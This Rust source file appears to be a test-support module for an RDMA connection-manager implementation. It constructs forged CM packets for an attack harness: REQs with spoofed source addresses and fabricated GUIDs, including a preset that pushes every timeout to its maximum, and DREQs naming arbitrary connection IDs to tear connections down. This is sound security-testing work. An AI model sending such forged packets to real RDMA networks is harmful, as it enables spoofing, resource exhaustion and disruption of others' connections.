//! The CM MADs the attacks forge, built with `portverbs::cm::wire`: REQs as rdma_cm sends
//! them (CMA header in the private data) with whatever timers the attack proposes, and DREQs
//! naming any communication IDs. Each is the 256 bytes of a MAD; an attack sends them
//! whole or cut short, with [`super::attacker::Forge::mad`].

#![allow(dead_code)]

use std::net::IpAddr;

use portverbs::cm::wire::{
    CMA_HEADER_LEN, CmMessage, CmaHeader, Dreq, Mad, PortSpace, REQ_PRIVATE_DATA, Req, ReqPath,
    service_id,
};
use portverbs::hal::Gid;

/// The timers a REQ proposes (5-bit exponents, 4.096 µs · 2^x) and its retries.
#[derive(Debug, Clone, Copy)]
pub struct ReqTimers {
    /// How long the sender gives the receiver to answer (its REQ retransmission interval,
    /// with two packet life times).
    pub remote_cm_response_timeout: u8,
    /// How long the sender takes to answer the REP (the receiver's REP retransmission
    /// interval).
    pub local_cm_response_timeout: u8,
    /// The path's local ACK timeout (the receiver's QP timeout and TIMEWAIT).
    pub local_ack_timeout: u8,
    /// Max CM retries (4 bits).
    pub max_cm_retries: u8,
}

impl ReqTimers {
    /// rdma_cm's values: 20, 20, 17 (PLT 16), 15 retries.
    pub const RDMA_CM: Self = Self {
        remote_cm_response_timeout: 20,
        local_cm_response_timeout: 20,
        local_ack_timeout: 17,
        max_cm_retries: 15,
    };

    /// Every timeout at its largest (31: 2^23 ms by Linux's rounding, 2.3 hours), 15
    /// retries.
    pub const LONGEST: Self = Self {
        remote_cm_response_timeout: 31,
        local_cm_response_timeout: 31,
        local_ack_timeout: 31,
        max_cm_retries: 15,
    };
}

/// An rdma_cm REQ (`RDMA_PS_TCP`, with the CMA header) as someone at `src` would send it.
#[derive(Debug, Clone, Copy)]
pub struct ForgedReq {
    /// The sender's communication ID.
    pub local: u32,
    /// The sender's CA GUID.
    pub guid: u64,
    /// The sender's QPN.
    pub qpn: u32,
    /// The address in the CMA header and the path's local GID.
    pub src: IpAddr,
    /// The listener's address.
    pub dst: IpAddr,
    /// The listener's port.
    pub port: u16,
    /// The timers it proposes.
    pub timers: ReqTimers,
}

impl ForgedReq {
    /// A REQ with communication ID `local` from `src` for `port` on `dst`, with rdma_cm's
    /// timers; its CA GUID and QPN derive from the ID, so that requests with distinct IDs
    /// look like distinct hosts' connections.
    pub fn new(local: u32, src: IpAddr, dst: IpAddr, port: u16) -> Self {
        Self {
            local,
            guid: 0x0200_0000_0000_0000 | u64::from(local),
            qpn: 0x1000 + (local & 0xFFFF),
            src,
            dst,
            port,
            timers: ReqTimers::RDMA_CM,
        }
    }

    /// The same request proposing `timers`.
    pub fn timers(self, timers: ReqTimers) -> Self {
        Self { timers, ..self }
    }

    /// The MAD, with transaction ID `tid`.
    pub fn mad(&self, tid: u64) -> [u8; 256] {
        let (src, dst) = (self.src, self.dst);
        let mut private_data = [0u8; REQ_PRIVATE_DATA];
        CmaHeader {
            src_port: 0xC123,
            src,
            dst,
        }
        .emit(&mut private_data[..CMA_HEADER_LEN])
        .expect("a CMA header");
        let t = self.timers;
        Mad::new(
            tid,
            CmMessage::Req(Req {
                local_comm_id: self.local,
                vendor_id: 0,
                service_id: service_id(PortSpace::Tcp, self.port),
                local_ca_guid: self.guid,
                local_qkey: 0,
                local_qpn: self.qpn,
                responder_resources: 1,
                local_eecn: 0,
                initiator_depth: 1,
                remote_eecn: 0,
                remote_cm_response_timeout: t.remote_cm_response_timeout,
                transport: 0,
                end_to_end_flow_control: false,
                starting_psn: 0x1234,
                local_cm_response_timeout: t.local_cm_response_timeout,
                retry_count: 7,
                pkey: 0xFFFF,
                path_mtu: 3,
                rdc_exists: false,
                rnr_retry_count: 7,
                max_cm_retries: t.max_cm_retries,
                srq: false,
                extended_transport: 0,
                primary: ReqPath {
                    local_lid: 0xFFFF,
                    remote_lid: 0xFFFF,
                    local_gid: Gid::from_ip(src),
                    remote_gid: Gid::from_ip(dst),
                    flow_label: 0,
                    packet_rate: 0,
                    traffic_class: 0,
                    hop_limit: 64,
                    sl: 0,
                    subnet_local: false,
                    local_ack_timeout: t.local_ack_timeout,
                },
                alternate: ReqPath::default(),
                sap_supported: false,
                private_data,
            }),
        )
        .emit()
    }
}

/// A DREQ for the connection whose sender's ID is `local` and receiver's `remote` (QPN
/// `remote_qpn`), with transaction ID `tid`.
pub fn dreq(tid: u64, local: u32, remote: u32, remote_qpn: u32) -> [u8; 256] {
    Mad::new(
        tid,
        CmMessage::Dreq(Dreq {
            local_comm_id: local,
            remote_comm_id: remote,
            remote_qpn,
            private_data: [0; 220],
        }),
    )
    .emit()
}
